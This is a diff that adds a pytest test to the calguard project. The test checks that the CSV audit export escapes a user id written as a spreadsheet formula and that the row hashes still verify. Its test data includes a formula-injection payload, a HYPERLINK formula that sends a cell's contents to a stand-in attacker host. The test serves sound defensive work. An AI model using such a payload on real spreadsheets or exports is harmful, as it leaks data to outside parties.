@@ -155,3 +155,39 @@ def test_calguard_audit_verify_and_export(tmp_path: Path) -> None:
     asyncio.run(execute(url, update(audit_chain).where(audit_chain.c.seq == 5).values(actor="x")))
     bad = calguard("audit", "verify")
     assert bad.returncode == 1 and "BROKEN at entry 5" in bad.stdout
+
+
+def test_an_exported_user_id_never_runs_as_a_formula_and_still_hashes(tmp_path: Path) -> None:
+    """A user id typed as a spreadsheet formula reaches the export as text (a leading
+    quote); dropping that one quote gives back the stored text, and the row's hash."""
+    import asyncio
+
+    from calguard.monitor.timeutil import parse_ts
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    url = f"sqlite:///{tmp_path / 'log.sqlite3'}"
+    shift = [{**e, "by": evil} if e.get("by") == "rn42" else e for e in SHIFT]
+    data = "".join(json.dumps(e) + "\n" for e in shift).encode()
+
+    async def run_shift() -> None:
+        async with AlertLog(url) as log:
+            await replay(
+                io.BytesIO(data), source="shift", library=load_library(), out=io.StringIO(), log=log
+            )
+
+    asyncio.run(run_shift())
+    out = tmp_path / "audit.csv"
+    exported = subprocess.run(
+        [sys.executable, "-m", "calguard.cli", "audit", "export", "--db", url, "--out", str(out)],
+        cwd=ROOT, capture_output=True, text=True, timeout=120,
+    )  # fmt: skip
+    assert exported.returncode == 0, exported.stderr
+    with out.open(newline="") as f:
+        rows = list(csv.DictReader(f))
+    by_evil = [r for r in rows if evil in r["actor"]]
+    assert len(by_evil) == 3  # the acknowledgement, its transition and the refused one
+    for r in by_evil:
+        assert r["actor"] == "'" + evil
+        actor = r["actor"][1:]  # undo the escape
+        seq, t_us = int(r["seq"]), parse_ts(r["time"])
+        assert link_hash(seq, t_us, r["kind"], actor, r["payload"], r["prev_hash"]) == r["hash"]
